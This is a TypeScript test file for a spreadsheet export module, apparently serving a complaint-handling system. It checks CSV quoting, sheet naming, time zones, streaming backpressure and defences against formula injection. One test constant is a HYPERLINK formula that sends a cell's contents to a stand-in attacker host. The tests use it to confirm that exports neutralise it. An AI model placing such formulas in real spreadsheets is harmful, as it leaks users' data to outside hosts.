import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { parseCsv } from '../../../server/classifier/csv';
import { dateTimeIn } from '../../../server/exports/dates';
import { type Column, csvField, neutralise, sheetName, writeCsv, writeXlsx } from '../../../server/exports/spreadsheet';

type Row = { code: string; at: Date | null; text: string; days: number };

const columns: Column<Row>[] = [
  { header: '编号', value: (r) => r.code },
  { header: '收到时间', value: (r) => r.at },
  { header: '内容', value: (r) => r.text },
  { header: '天数', value: (r) => r.days },
];

const LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
const row = (i: number): Row => ({
  code: `GD${String(i).padStart(8, '0')}`,
  at: new Date(Date.UTC(2026, 11, 1, 1, 0, i % 60)),
  text: i === 7 ? LINK : `市民反映：小区门口餐馆油烟很大，影响居民休息，希望尽快处理。第${i}条`,
  days: i % 15,
});

/** Random CJK text: compresses about as poorly as real complaints, unlike one sentence repeated. */
function noise(seed: number, length: number): string {
  let x = seed + 1; // xorshift32
  const next = () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) % 0x5000;
  };
  return Array.from({ length }, () => String.fromCharCode(0x4e00 + next())).join('');
}

/** Rows as a database cursor would give them; `pulled` shows how far the writer has read. */
function source(n: number, make: (i: number) => Row = row) {
  const state = { pulled: 0, closed: false };
  async function* rows(): AsyncGenerator<Row> {
    try {
      for (let i = 0; i < n; i++) {
        state.pulled++;
        yield make(i);
      }
    } finally {
      state.closed = true;
    }
  }
  return { state, rows: rows() };
}

function collect(out: PassThrough): Promise<Buffer> {
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  return new Promise((resolve, reject) => {
    out.on('end', () => resolve(Buffer.concat(chunks)));
    out.on('error', reject);
  });
}

/** Waits until the writer stops pulling rows (it is waiting on backpressure) and says how many it took. */
async function stalledAt(state: { pulled: number }): Promise<number> {
  let last = -1;
  while (state.pulled !== last) {
    last = state.pulled;
    await new Promise((r) => setTimeout(r, 50));
  }
  return last;
}

const utc = (d: Date) => d.toISOString().replace('T', ' ').slice(0, 19);

describe('neutralise', () => {
  it.each<[string, string | number | null, string | number | null]>([
    ['a formula', '=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['a plus', '+1', "'+1"],
    ['a minus', '-2', "'-2"],
    ['an at sign', '@cmd', "'@cmd"],
    ['a leading tab', '\tx', "'\tx"],
    ['a leading carriage return', '\rx', "'\rx"],
    ['normal text', 'hello world', 'hello world'],
    ['a formula character later on', 'a=b+c', 'a=b+c'],
    ['Chinese', '食品安全：过期面包', '食品安全：过期面包'],
    ['an empty string', '', ''],
    ['a positive number', 42, 42],
    ['a negative number', -2, -2],
    ['null', null, null],
  ])('%s', (_name, input, expected) => {
    expect(neutralise(input)).toBe(expected);
  });

  it('leaves dates alone', () => {
    const d = new Date();
    expect(neutralise(d)).toBe(d);
  });
});

describe('csvField', () => {
  it.each<[string, string | number, string]>([
    ['plain text', 'abc', 'abc'],
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['a line feed', 'line 1\nline 2', '"line 1\nline 2"'],
    ['a CRLF', 'line 1\r\nline 2', '"line 1\r\nline 2"'],
    ['a full-width comma needs no quotes', '你好，世界', '你好，世界'],
    ['a number', 3.5, '3.5'],
  ])('%s', (_name, input, expected) => {
    expect(csvField(input)).toBe(expected);
  });
});

describe('sheetName', () => {
  it.each([
    ['诉求清单', '诉求清单'],
    ['a/b\\c?d*e[f]g:h', 'a_b_c_d_e_f_g_h'],
    ['x'.repeat(40), 'x'.repeat(31)],
    ['  ', 'Sheet1'],
  ])('%s', (input, expected) => {
    expect(sheetName(input)).toBe(expected);
  });
});

describe('dateTimeIn', () => {
  it('shows the wall-clock time of the given zone', () => {
    expect(dateTimeIn('Asia/Shanghai')(new Date('2026-12-01T16:30:05Z'))).toBe('2026-12-02 00:30:05');
  });
});

describe('writeCsv', () => {
  async function csv(rows: Row[]): Promise<string> {
    const out = new PassThrough();
    const body = collect(out);
    async function* gen() {
      yield* rows;
    }
    await writeCsv(out, columns, gen(), { formatDate: utc });
    return (await body).toString('utf8');
  }

  it('starts with a UTF-8 BOM and ends lines with CRLF', async () => {
    const text = await csv([row(1)]);
    expect(text.startsWith('\ufeff编号,收到时间,内容,天数\r\n')).toBe(true);
    expect(text).toBe('\ufeff编号,收到时间,内容,天数\r\nGD00000001,2026-12-01 01:00:01,市民反映：小区门口餐馆油烟很大，影响居民休息，希望尽快处理。第1条,1\r\n');
  });

  it('quotes, neutralises and leaves empty cells empty, and reads back intact', async () => {
    const tricky: Row[] = [
      { code: '-1', at: null, text: 'a, "b"\nc', days: -3 },
      { code: 'GD2', at: null, text: LINK, days: 0 },
    ];
    const text = await csv(tricky);
    expect(text).toContain('\r\n\'-1,,"a, ""b""\nc",-3\r\n');
    expect(parseCsv(text)).toEqual([
      ['编号', '收到时间', '内容', '天数'],
      ["'-1", '', 'a, "b"\nc', '-3'],
      ['GD2', '', `'${LINK}`, '0'],
    ]);
  });

  it('stops reading rows while the client is not reading, then finishes', async () => {
    const { state, rows } = source(20_000);
    const out = new PassThrough();
    const done = writeCsv(out, columns, rows, { formatDate: utc });
    expect(await stalledAt(state)).toBeLessThan(2_000);
    const text = (await Promise.all([collect(out), done]))[0].toString('utf8');
    expect(parseCsv(text)).toHaveLength(20_001);
    expect(state.closed).toBe(true);
  });
});

describe('writeXlsx', () => {
  async function readBack(buf: Buffer): Promise<ExcelJS.Worksheet> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet('诉求清单');
    if (!ws) throw new Error('sheet missing');
    return ws;
  }

  it('writes 20,000 rows that read back as text, not formulas', async () => {
    const { state, rows } = source(20_000);
    const out = new PassThrough();
    const body = collect(out);
    await writeXlsx(out, columns, rows, { sheetName: '诉求清单', formatDate: utc });
    const ws = await readBack(await body);

    expect(ws.actualRowCount).toBe(20_001);
    expect(state.closed).toBe(true);
    expect(ws.getRow(1).values).toEqual([undefined, '编号', '收到时间', '内容', '天数']);
    const link = ws.getRow(7 + 2).getCell(3);
    expect(link.type).toBe(ExcelJS.ValueType.String);
    expect(link.value).toBe(`'${LINK}`);
    expect(ws.getRow(2).values).toEqual([undefined, 'GD00000000', '2026-12-01 01:00:00', '市民反映：小区门口餐馆油烟很大，影响居民休息，希望尽快处理。第0条', 0]);
    expect(ws.getRow(20_001).getCell(1).value).toBe('GD00019999');
    expect(ws.getRow(20_001).getCell(4).type).toBe(ExcelJS.ValueType.Number);
  });

  it('leaves a null cell empty', async () => {
    async function* one() {
      yield { ...row(1), at: null };
    }
    const out = new PassThrough();
    const body = collect(out);
    await writeXlsx(out, columns, one(), { sheetName: '诉求清单' });
    const cell = (await readBack(await body)).getRow(2).getCell(2);
    expect(cell.type).toBe(ExcelJS.ValueType.Null);
  });

  // exceljs ignores backpressure between a sheet and its zip stream; writeXlsx reaches past that (see sheetPipe).
  // If an exceljs upgrade moves the stream, this fails rather than memory quietly growing with the list.
  // The rest of the pipeline holds ~1 MB of compressed output (archiver's buffer) plus our 1 MB of XML.
  it('stops reading rows while the client is not reading, then finishes', async () => {
    const { state, rows } = source(40_000, (i) => ({ ...row(i), text: noise(i, 60) }));
    const out = new PassThrough();
    const done = writeXlsx(out, columns, rows, { sheetName: '诉求清单', formatDate: utc });
    expect(await stalledAt(state)).toBeLessThan(20_000);
    const [buf] = await Promise.all([collect(out), done]);
    expect((await readBack(buf)).actualRowCount).toBe(40_001);
  });
});
